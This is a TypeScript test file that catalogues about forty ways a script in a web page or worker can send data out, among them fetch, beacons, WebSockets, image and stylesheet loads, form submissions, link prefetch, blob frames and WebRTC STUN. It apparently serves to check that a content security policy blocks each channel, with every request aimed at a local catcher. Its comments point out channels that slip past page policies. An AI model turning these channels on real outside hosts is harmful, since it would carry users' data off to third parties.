// Ways in which a script can try to send something out of a page. Each runs
// inside the page under test, by itself: it may use its argument and nothing
// else of this file.

/** Where a way shall send to; every address is a catcher on this computer. */
export interface Target {
  /** Counts requests. */
  readonly http: string;
  /** The same, for a WebSocket. */
  readonly ws: string;
  /** Counts datagrams: a STUN server's address. */
  readonly stun: string;
  /** Counts datagrams: a server that speaks HTTP/3, as far as the page knows. */
  readonly quic: string;
  /** Counts connections, even if nothing is asked. */
  readonly tcp: string;
}

/** A way, and what has to be known to test it. */
export interface Way {
  readonly run: (target: Target) => unknown;
  /** It takes the page away, or opens another: it needs a page of its own. */
  readonly alone?: true;
  /** Why it cannot be seen to leak here, even without a policy. */
  readonly unseen?: string;
}

function element<K extends keyof HTMLElementTagNameMap>(tag: K, fields: (target: Target) => Record<string, string>): Way {
  // Written out as source, since a way may use nothing from around it.
  const make = `(target) => { const it = document.createElement('${tag}'); const fields = (${fields.toString()})(target);
    for (const [name, value] of Object.entries(fields)) it.setAttribute(name, value); document.body.append(it); }`;
  return { run: new Function(`return ${make}`)() as (target: Target) => void };
}

/** All of them, by name. */
export const ways: Readonly<Record<string, Way>> = {
  // Requests that scripts make.
  fetch: { run: to => fetch(to.http, { method: 'POST', mode: 'no-cors', body: 'a log' }) },
  xhr: { run: to => {
    const request = new XMLHttpRequest();
    request.open('POST', to.http);
    request.send('a log');
  } },
  ws: { run: to => { new WebSocket(to.ws); } },
  es: { run: to => { new EventSource(to.http); } },
  beacon: { run: to => { navigator.sendBeacon(to.http, 'a log'); } },
  fetchlater: { run: to => {
    const { fetchLater } = window as unknown as { fetchLater(url: string, options: object): void };
    fetchLater(to.http, { activateAfter: 0 });
  } },
  webtransport: { run: to => {
    const { WebTransport } = window as unknown as { WebTransport: new (url: string) => unknown };
    new WebTransport(to.quic);
  } },
  import: { run: to => import(to.http) },

  // What elements load.
  img: { run: to => { new Image().src = to.http; } },
  script: element('script', to => ({ src: to.http })),
  css: element('link', to => ({ rel: 'stylesheet', href: to.http })),
  video: element('video', to => ({ src: to.http, preload: 'auto' })),
  iframe: element('iframe', to => ({ src: to.http })),
  object: element('object', to => ({ data: to.http })),
  embed: element('embed', to => ({ src: to.http })),
  svgimage: { run: to => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to.http);
    svg.append(image);
    document.body.append(svg);
  } },
  cssbg: { run: to => {
    const it = document.createElement('div');
    it.style.backgroundImage = `url(${to.http})`;
    it.style.height = '9px';
    document.body.append(it);
  } },
  cssimport: { run: to => {
    const it = document.createElement('style');
    it.textContent = `@import url(${to.http});`;
    document.head.append(it);
    // A sheet that is there already has its hash checked no more.
    document.styleSheets[0]?.insertRule(`@import url(${to.http});`, 0);
  } },
  fontface: { run: to => new FontFace('Leak', `url(${to.http})`).load() },

  // What <link> asks for ahead of time.
  prefetch: element('link', to => ({ rel: 'prefetch', href: to.http })),
  preload: element('link', to => ({ rel: 'preload', as: 'image', href: to.http })),
  modulepreload: element('link', to => ({ rel: 'modulepreload', href: to.http })),
  icon: { ...element('link', to => ({ rel: 'icon', href: to.http })), alone: true, unseen: 'a browser without a window shows no icon' },
  manifest: { ...element('link', to => ({ rel: 'manifest', href: to.http })), unseen: 'a browser without a window reads no manifest' },
  preconnect: { ...element('link', to => ({ rel: 'preconnect', href: to.tcp })), alone: true, unseen: 'a browser that is driven opened none in our trials' },
  dnsprefetch: {
    ...element('link', () => ({ rel: 'dns-prefetch', href: '//a-log.invalid' })),
    unseen: 'what is asked of a name server is not seen from here',
  },
  specrules: { run: to => {
    const it = document.createElement('script');
    it.type = 'speculationrules';
    it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to.http], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [to.http], eagerness: 'immediate' }] });
    document.head.append(it);
  }, alone: true },

  // Going somewhere else, here or in another window.
  location: { run: to => { location.href = to.http; }, alone: true },
  toplocation: { run: to => { (window.top ?? window).location.href = to.http; }, alone: true },
  metarefresh: { run: to => {
    const it = document.createElement('meta');
    it.httpEquiv = 'refresh';
    it.content = `0;url=${to.http}`;
    document.head.append(it);
  }, alone: true },
  form: { run: to => {
    const it = document.createElement('form');
    it.action = to.http;
    document.body.append(it);
    it.submit();
  }, alone: true },
  formblank: { run: to => {
    const it = document.createElement('form');
    it.action = to.http;
    it.target = '_blank';
    document.body.append(it);
    it.submit();
  }, alone: true },
  winopen: { run: to => { window.open(to.http); }, alone: true },
  ablank: { run: to => {
    const it = document.createElement('a');
    it.href = to.http;
    it.target = '_blank';
    document.body.append(it);
    it.click();
  }, alone: true },
  aping: { run: to => {
    const it = document.createElement('a');
    it.href = '#here';
    it.ping = to.http;
    document.body.append(it);
    it.click();
  }, alone: true },
  adownload: { run: to => {
    const it = document.createElement('a');
    it.href = to.http;
    it.download = 'a log';
    document.body.append(it);
    it.click();
  }, alone: true },

  // Other realms: a frame's or a worker's own functions, a document of one's own.
  iframeblob: { run: to => {
    const it = document.createElement('iframe');
    it.src = URL.createObjectURL(new Blob([`<img src="${to.http}"><script>fetch("${to.http}")</script>`], { type: 'text/html' }));
    document.body.append(it);
  } },
  iframesrcdoc: { run: to => {
    const it = document.createElement('iframe');
    it.srcdoc = `<img src="${to.http}"><script>fetch("${to.http}")</script>`;
    document.body.append(it);
  } },
  navblob: { run: to => {
    location.href = URL.createObjectURL(new Blob([`<img src="${to.http}"><script>fetch("${to.http}")</script>`], { type: 'text/html' }));
  }, alone: true },
  blobworkerfetch: { run: to => { new Worker(URL.createObjectURL(new Blob([`fetch("${to.http}", { mode: "no-cors" })`]))); } },
  blobworkerimport: { run: to => { new Worker(URL.createObjectURL(new Blob([`importScripts("${to.http}")`]))); } },

  // WebRTC, which no policy of a document covers.
  rtcstun: { run: async to => {
    const it = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    it.createDataChannel('a log');
    await it.setLocalDescription(await it.createOffer());
  }, alone: true },
  rtcframe: { run: async to => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const other = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
    const it = new other.RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    it.createDataChannel('a log');
    await it.setLocalDescription(await it.createOffer());
  }, alone: true },
};

/** Ways a worker has; they run inside one of the app's own workers. */
export const workerWays: Readonly<Record<string, Way>> = {
  fetch: { run: to => fetch(to.http, { method: 'POST', mode: 'no-cors', body: 'a log' }) },
  xhr: { run: to => {
    const request = new XMLHttpRequest();
    request.open('POST', to.http);
    request.send('a log');
  } },
  ws: { run: to => { new WebSocket(to.ws); } },
  es: { run: to => { new EventSource(to.http); } },
  import: { run: to => import(to.http) },
  importscripts: { run: to => { (self as unknown as { importScripts(url: string): void }).importScripts(to.http); } },
  worker: { run: to => { new Worker(URL.createObjectURL(new Blob([`fetch("${to.http}", { mode: "no-cors" })`]))); } },
  fontface: { run: to => new FontFace('Leak', `url(${to.http})`).load() },
  webtransport: { run: to => {
    const { WebTransport } = self as unknown as { WebTransport: new (url: string) => unknown };
    new WebTransport(to.quic);
  } },
};
